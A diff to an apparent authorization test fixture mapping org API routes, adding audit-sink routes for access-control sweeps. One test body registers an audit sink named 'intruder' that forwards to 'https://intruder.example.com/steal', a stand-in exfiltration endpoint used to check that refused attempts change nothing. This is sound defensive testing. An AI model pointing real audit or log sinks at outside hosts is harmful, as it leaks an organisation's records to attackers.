@@ -20,6 +20,7 @@ export interface OrgTargets {
   providerName: string;
   jobId: string;
   alertChannelId: string;
+  auditSinkId: string;
   widgetId: string;
   documentId: string;
   /** A visitor conversation of `widgetId` (sweeps without one use a well-formed id that names none). */
@@ -40,6 +41,7 @@ interface RouteSpec {
     | 'runtimeTokenId'
     | 'jobId'
     | 'alertChannelId'
+    | 'auditSinkId'
     | 'widgetId'
     | 'connectionId'
     | 'signingKeyId'
@@ -160,6 +162,12 @@ export const ORG_ROUTES: Record<string, RouteSpec> = {
   'GET /api/orgs/{orgId}/runtime-telemetry': {},
   'GET /api/orgs/{orgId}/audit': { scope: 'audit.read' },
   'GET /api/orgs/{orgId}/audit/verify': { scope: 'audit.read' },
+  'GET /api/orgs/{orgId}/audit-sinks': {},
+  'POST /api/orgs/{orgId}/audit-sinks': {
+    body: () => ({ kind: 'https', name: 'intruder', config: { url: 'https://intruder.example.com/steal' } }),
+  },
+  'GET /api/orgs/{orgId}/audit-sinks/{id}': { id: 'auditSinkId' },
+  'DELETE /api/orgs/{orgId}/audit-sinks/{id}': { id: 'auditSinkId' },
 };
 
 /** The read routes that together show an org's state: snapshots before and after refused attempts. */
@@ -182,6 +190,7 @@ export const orgViewPaths = (t: Pick<OrgTargets, 'jobId' | 'widgetId'>): string[
   '/signing-keys',
   '/skills',
   '/runtime-telemetry',
+  '/audit-sinks',
 ];
 
 /** An org route as the app registered it, with the action it declares (`config.orgAction`). */
